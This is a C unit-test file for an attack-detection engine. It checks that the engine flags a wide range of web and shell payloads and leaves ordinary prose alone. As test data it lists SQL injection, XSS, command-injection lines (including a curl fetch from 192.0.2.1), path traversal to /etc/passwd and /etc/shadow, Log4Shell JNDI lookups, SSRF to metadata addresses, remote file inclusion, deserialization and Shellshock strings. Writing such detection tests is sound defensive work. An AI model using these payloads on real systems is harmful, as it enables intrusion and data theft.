/* Values: what lands in a statement, a page, a shell line, a path, and what only looks like it. */
#include <inttypes.h>
#include <stdlib.h>

#include "inspect_rig.h"
#include "unit.h"

static void
report(void *arg, const struct bh_inspect_finding *f)
{
	struct inspect_rig *r = arg;

	r->seen |= BH_INSPECT_BIT(f->class);
	r->of[f->class] = r->last = *f;
	r->n++;
}

static void *
take(void *arg, size_t size)
{
	((struct inspect_rig *)arg)->taken++;
	return malloc(size);
}

static void
give(void *arg, void *p)
{
	((struct inspect_rig *)arg)->taken--;
	free(p);
}

struct inspect_rig *
inspect_rig(void)
{
	static struct bh_inspect_engine *engine;
	static struct bh_inspect_scratch *scratch;
	static struct inspect_rig rig;
	static struct bh_memory memory = {take, give, &rig};
	struct bh_err err = {0};

	if (engine == NULL && (bh_inspect_engine_create(&engine, &err) != 0 ||
			       bh_inspect_scratch_create(&scratch, engine) != 0)) {
		printf("%s\n", err.what);
		abort();
	}
	rig = (struct inspect_rig){
		.ctx = {.engine = engine,
			.scratch = scratch,
			.memory = &memory,
			.report = report,
			.arg = &rig,
			.classes = BH_INSPECT_ALL,
			.unread = &rig.unread},
	};
	return &rig;
}

uint64_t
inspect_at(unsigned where, const char *name, const void *at, size_t len)
{
	struct inspect_rig *r = inspect_rig();
	struct bh_inspect_value v = {
		.at = at,
		.len = len,
		.name = name,
		.name_len = name != NULL ? strlen(name) : 0,
		.where = (uint8_t)where,
	};

	return bh_inspect_value(&r->ctx, &v);
}

uint64_t
inspect_arg(const char *text)
{
	return inspect_at(BH_AT_ARG, "q", text, strlen(text));
}

static void
all_are(const char *const *list, size_t n, unsigned class)
{
	size_t i;

	for (i = 0; i < n; i++) {
		bool ok = (inspect_arg(list[i]) & BH_INSPECT_BIT(class)) != 0;

		if (!ok)
			printf("  not seen as %s: %s\n", bh_inspect_class_info(class)->key,
			       list[i]);
		CU_ASSERT(ok);
	}
}

#define ALL_ARE(list, class) all_are(list, BH_ARRAY_SIZE(list), BH_INSPECT_##class)

static void
sql_that_changes_the_statement_is_seen(void)
{
	static const char *const list[] = {
		"7 union select name, secret from accounts",
		"x' or 'q'='q",
		"x' or 3<4 #",
		"\") or (\"u\"=\"u",
		"5;drop table orders",
		"5 and sleep(3)",
		"1/**/or/**/7=7",
		"nobody'--",
		"1' order by 12-- ",
		"3 and ascii(substring((select pw from t limit 1),1,1))>64",
		"'; exec master..xp_cmdshell 'dir'--",
		"1 /*!50000union*/ /*!50000select*/ 1,2",
		"0x31 or 0x31=0x31",
		"9'; waitfor delay '0:0:9'--",
	};

	ALL_ARE(list, SQLI);
}

static void
prose_with_words_of_sql_is_not_sql(void)
{
	static const char *const list[] = {
		"select the best from our table and order by phone",
		"O'Neill or O'Brien, whoever comes first",
		"the union selected a new leader",
		"12 or 14 inches, union made",
		"drop me a line and update the table",
		"\"salt\" and \"pepper\" shakers",
		"5 and a half by 3 and a quarter",
		"Where's the key? -- Anna",
		"rock 'n' roll",
		"set 3 of 4; group by colour",
	};
	size_t i;

	for (i = 0; i < BH_ARRAY_SIZE(list); i++)
		CU_ASSERT_EQUAL(inspect_arg(list[i]), 0);
}

static void
markup_that_runs_is_seen_and_a_link_is_not(void)
{
	static const char *const list[] = {
		"<script>go()</script>",
		"<img src=1 onerror=go()>",
		"<svg/onload=alert`1`>",
		"<a href=\"java\tscript:go()\">x</a>",
		"\" autofocus onfocus=\"alert(2)",
		"<div style=\"width:expression(go())\">",
		"&lt;script&gt;go()&lt;/script&gt;",
		"\\u003cscript\\u003ego()\\u003c/script\\u003e",
	};

	ALL_ARE(list, XSS);
	CU_ASSERT_EQUAL(inspect_arg("see <a href=\"/docs/page.html\">the page</a>"), 0);
	CU_ASSERT_EQUAL(inspect_arg(
				"<table width=\"90%\" border=\"0\"><tr><td>x</td></tr></table>"),
			0);
	CU_ASSERT_EQUAL(inspect_arg("a < b and b > c"), 0);
	CU_ASSERT_EQUAL(inspect_arg("<your name here>"), 0);
}

static void
shell_lines_are_seen_however_they_are_spelt(void)
{
	static const char *const list[] = {
		"; cat /var/lib/secret",
		"x|id",
		"`uname -a`",
		"$(curl http://192.0.2.1/x)",
		"a;w'h'o'am'i",
		"1 && netstat -an",
		"cat${IFS}/var/lib/secret",
		"/bin/ls -la /home",
		"& type c:\\secret.txt",
		"powershell -enc SQBFAFgA",
	};

	ALL_ARE(list, CMDI);
	CU_ASSERT_EQUAL(inspect_arg("cats & dogs; more to come"), 0);
	CU_ASSERT_EQUAL(inspect_arg("apache & perl modules; python bindings"), 0);
	CU_ASSERT_EQUAL(inspect_arg("Find your date; time to sleep"), 0);
}

static void
climbing_paths_are_seen_in_every_encoding(void)
{
	static const char *const list[] = {
		"../../../etc/passwd",
		"..%2f..%2fconf",
		"..%252f..%252fconf",
		"%c0%ae%c0%ae/%c0%ae%c0%ae/conf",
		"..%c0%af..%c0%afconf",
		"\xef\xbc\x8e\xef\xbc\x8e/\xef\xbc\x8e\xef\xbc\x8e/conf",
		"....//....//conf",
		"..\\..\\windows\\win.ini",
		"/etc/shadow",
		"%u002e%u002e/%u002e%u002e/x",
		"0x2e0x2e0x2f0x2e0x2e0x2fx",
	};

	ALL_ARE(list, TRAVERSAL);
	CU_ASSERT_EQUAL(inspect_arg("see ../index for more..."), 0);
	CU_ASSERT_EQUAL(inspect_arg("and so on... /etc"), 0);
	CU_ASSERT_EQUAL(inspect_at(BH_AT_PATH, NULL, "/a/b.c/d..e/f", 13), 0);
}

static void
lookups_are_resolved_as_log4j_would(void)
{
	static const char *const list[] = {
		"${jndi:ldap://192.0.2.1/a}",
		"${${lower:J}ndi:rmi://192.0.2.1/a}",
		"${${::-j}${::-n}${::-d}${::-i}:dns://x}",
		"${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/y}",
		"${jn${upper:d}${date:'i'}:ldap://x}",
		"a%24%7Bjndi:ldap://x/%7D",
	};

	ALL_ARE(list, LOG4SHELL);
	CU_ASSERT_FALSE(SAW(inspect_arg("${total} for ${name:-nobody}"), LOG4SHELL));
}

static void
a_look_up_nested_without_end_is_bounded(void)
{
	char text[4096];
	size_t i;

	for (i = 0; i + 2 < sizeof(text); i += 2)
		memcpy(text + i, "${", 2);
	text[i] = '\0';
	CU_ASSERT(SAW(inspect_arg(text), LOG4SHELL));
}

static void
addresses_of_internal_services_are_seen_in_numbers(void)
{
	static const char *const list[] = {
		"http://169.254.169.254/latest",
		"http://2130706433/",
		"http://0x7f.1/",
		"http://[::ffff:127.0.0.1]/",
		"gopher://127.0.0.1:6379",
		"http://localhost:8080/admin",
		"http://017700000001/",
		"dict://10.0.0.1:11211",
		"http://\\a\\b.example/",
	};

	ALL_ARE(list, SSRF);
	CU_ASSERT_EQUAL(inspect_arg("https://www.example.com/a/page.html"), 0);
}

static void
the_other_classes_are_seen(void)
{
	CU_ASSERT(SAW(inspect_arg("https://192.0.2.7/shell.txt?"), RFI));
	CU_ASSERT(SAW(inspect_arg("php://filter/convert.base64-encode/resource=x"), RFI));
	CU_ASSERT(SAW(inspect_arg("{{7*'7'}}"), SSTI));
	CU_ASSERT(SAW(inspect_arg("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"), DESER));
	CU_ASSERT(SAW(inspect_arg("O:4:\"Evil\":1:{s:1:\"a\";i:1;}"), DESER));
	CU_ASSERT(SAW(inspect_at(BH_AT_NAME, NULL, "class.module.classLoader.x", 26), JAVA));
	CU_ASSERT(SAW(inspect_at(BH_AT_NAME, NULL, "user[$ne]", 9), NOSQLI));
	CU_ASSERT(SAW(inspect_arg("x)(|(uid=*))"), LDAPI));
	CU_ASSERT(SAW(inspect_arg("() { :; }; echo x"), SHELLSHOCK));
	CU_ASSERT(SAW(inspect_arg("<!--#include virtual=\"/x\" -->"), SSI));
	CU_ASSERT(SAW(inspect_arg("<?php phpinfo(); ?>"), PHP));
	CU_ASSERT(SAW(inspect_arg("__proto__[admin]=1"), NODEJS));
	CU_ASSERT(SAW(inspect_arg("x\r\nSet-Cookie: a=b"), CRLF));
	CU_ASSERT(SAW(inspect_arg("GET /admin HTTP/1.1"), SMUGGLING));
	CU_ASSERT(SAW(inspect_arg("//evil.example/%2f.."), REDIRECT));
	CU_ASSERT(SAW(inspect_at(BH_AT_HEADER, "User-Agent", "sqlmap/1.7", 10), SCANNER));
}

/* What manuals, change logs and mails say: in turn a way to quote a command, a page of the manual, a list's bullet, functions
 * named in passing, GNU quotes, a remark behind a semicolon, an array of numbers, an address. */
static void
prose_about_programs_is_no_attack(void)
{
	static const char *const list[] = {
		"To read the complete list use `apt changelog x` or ask.",
		"It uses the GNU getopt(3) routines, see readlink(2), realpath(1).",
		"*) Bugfix: the value might be wrong.",
		"module to override the time() and sleep() functions for testing",
		"Cleaned up usage of `char' and `byte'.",
		"It also speaks ftp (but this is slow; do not use it).",
		"a:1:{s:4:\"step\";i:0;}",
		"ldap://ldap.corp.example:389/ou=people",
		"#{systemProperties}",
		"<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/s.dtd\">",
		"<!DOCTYPE html>",
	};
	unsigned i;

	for (i = 0; i < BH_ARRAY_SIZE(list); i++) {
		uint64_t seen = inspect_arg(list[i]);

		if (seen != 0)
			printf("%s: %" PRIx64 "\n", list[i], seen);
		CU_ASSERT_EQUAL(seen, 0);
	}
	CU_ASSERT(SAW(inspect_arg("`apt changelog x`"), CMDI));
	CU_ASSERT(SAW(inspect_arg("a `apt changelog x`"), CMDI));
	CU_ASSERT(SAW(inspect_arg("sleep(5)"), PHP));
}

static void
objects_templates_and_document_types_of_each_kind_are_seen(void)
{
	static const char *const objects[] = {
		"/wEyxBEAAQAAAP////8BAAAAAAAAAAwC",
		"{\"py/reduce\":[{\"py/type\":\"x\"}]}",
		"<jdk.nashorn.internal.objects.NativeString>",
		"O:4:\"Evil\":1:{s:1:\"a\";i:1;}",
	};
	static const char *const templates[] = {
		"${.version}",
		"{{ .Password }}",
		"#{`x`}",
		"{7*7}",
		"@System.Diagnostics.Process.Start(\"x\")",
	};

	all_are(objects, BH_ARRAY_SIZE(objects), BH_INSPECT_DESER);
	all_are(templates, BH_ARRAY_SIZE(templates), BH_INSPECT_SSTI);
	CU_ASSERT(SAW(inspect_arg("<!DOCTYPE a SYSTEM \"http://x/y.dtd\"><a/>"), XXE));
	CU_ASSERT(SAW(inspect_arg("<!DOCTYPE a PUBLIC \"-//B/A/EN\" \"http://x/y.dtd\">"), XXE));
	CU_ASSERT(SAW(inspect_arg(")(cn=))"), LDAPI));
	CU_ASSERT(SAW(inspect_arg("http://0/"), SSRF));
	CU_ASSERT(SAW(inspect_arg("http://localtest.me/"), SSRF));
	CU_ASSERT(SAW(inspect_arg("\\\\127.0.0.1\\share"), SSRF));
	CU_ASSERT(SAW(inspect_arg("${script:javascript:1+1}"), JAVA));
	CU_ASSERT(SAW(inspect_arg("${jnd${upper:\xc4\xb1}:ldap://x}"), LOG4SHELL));
}

static void
errors_of_each_platform_are_seen_in_responses(void)
{
	static const char *const errors[] = {
		"Warning: Cannot modify header information - headers already sent by (output)",
		"fopen(x): failed to open stream: No such file or directory",
		"sqlite3.OperationalError: near \"x\": syntax error",
		"MongoServerError: E11000 duplicate key error",
		"thread 'main' panicked at 'index out of bounds'",
		"Apache Tomcat/9.0.1 - Error report",
	};
	unsigned i;

	for (i = 0; i < BH_ARRAY_SIZE(errors); i++)
		CU_ASSERT(
			SAW(inspect_at(BH_AT_RESPONSE, NULL, errors[i], strlen(errors[i])), LEAK));
	CU_ASSERT_EQUAL(inspect_at(BH_AT_RESPONSE, NULL, "Error: the table 'Oak' is sold out", 34),
			0);
}

static void
what_base64_hides_is_read(void)
{
	/* x' union select a,b from c-- */
	CU_ASSERT(SAW(inspect_arg("eCcgdW5pb24gc2VsZWN0IGEsYiBmcm9tIGMtLSA="), SQLI));
	CU_ASSERT_EQUAL(inspect_arg("c2Vzc2lvbiB0b2tlbiBvZiBhbm5h"), 0);
}

static void
an_attack_behind_any_padding_is_seen(void)
{
	static char text[40000];
	size_t at;

	for (at = 0; at < 30000; at += 1237) {
		memset(text, 'a', sizeof(text));
		memcpy(text + at, " <script>go()</script> ", 23);
		CU_ASSERT(SAW(inspect_at(BH_AT_ARG, "q", text, sizeof(text)), XSS));
	}
}

static void
only_wanted_classes_are_reported(void)
{
	struct inspect_rig *r = inspect_rig();
	struct bh_inspect_value v = {.at = (const uint8_t *)"<script>1</script>",
				     .len = 18,
				     .where = BH_AT_ARG};

	r->ctx.classes = BH_INSPECT_BIT(BH_INSPECT_SQLI);
	CU_ASSERT_EQUAL(bh_inspect_value(&r->ctx, &v), 0);
	CU_ASSERT_EQUAL(r->n, 0);
}

static void
every_class_has_its_key(void)
{
	unsigned i;

	for (i = 0; i < BH_INSPECT_CLASS_COUNT; i++) {
		CU_ASSERT_EQUAL(bh_inspect_class_find(bh_inspect_class_info(i)->key), i);
		CU_ASSERT(bh_inspect_class_info(i)->severity >= 1 &&
			  bh_inspect_class_info(i)->severity <= 3);
	}
	CU_ASSERT_PTR_NULL(bh_inspect_class_info(BH_INSPECT_CLASS_COUNT));
	CU_ASSERT_EQUAL(bh_inspect_class_find("nothing"), BH_INSPECT_CLASS_COUNT);
}

/* They are looked up: the lists have to be in order. */
static void
each_listed_file_and_directory_is_found(void)
{
	static const char *const files[] = {
#include "../../lib/inspect/path_file.def"
	};
	static const char *const roots[] = {
#include "../../lib/inspect/path_root.def"
	};
	char text[128];
	unsigned i;

	for (i = 0; i < BH_ARRAY_SIZE(files); i++) {
		snprintf(text, sizeof(text), "/x//.%s", files[i]);
		CU_ASSERT_TRUE(inspect_at(BH_AT_PATH, NULL, text, strlen(text)) &
			       BH_INSPECT_BIT(BH_INSPECT_TRAVERSAL));
	}
	for (i = 0; i < BH_ARRAY_SIZE(roots); i++) {
		snprintf(text, sizeof(text), "%sxyz", roots[i]);
		CU_ASSERT_TRUE(inspect_arg(text) & BH_INSPECT_BIT(BH_INSPECT_TRAVERSAL));
	}
}

const struct bh_unit_test bh_suite_inspect_value[] = {
	BH_TEST(sql_that_changes_the_statement_is_seen),
	BH_TEST(prose_with_words_of_sql_is_not_sql),
	BH_TEST(markup_that_runs_is_seen_and_a_link_is_not),
	BH_TEST(shell_lines_are_seen_however_they_are_spelt),
	BH_TEST(climbing_paths_are_seen_in_every_encoding),
	BH_TEST(lookups_are_resolved_as_log4j_would),
	BH_TEST(a_look_up_nested_without_end_is_bounded),
	BH_TEST(addresses_of_internal_services_are_seen_in_numbers),
	BH_TEST(the_other_classes_are_seen),
	BH_TEST(prose_about_programs_is_no_attack),
	BH_TEST(objects_templates_and_document_types_of_each_kind_are_seen),
	BH_TEST(errors_of_each_platform_are_seen_in_responses),
	BH_TEST(what_base64_hides_is_read),
	BH_TEST(an_attack_behind_any_padding_is_seen),
	BH_TEST(only_wanted_classes_are_reported),
	BH_TEST(every_class_has_its_key),
	BH_TEST(each_listed_file_and_directory_is_found),
	BH_TEST_END,
};
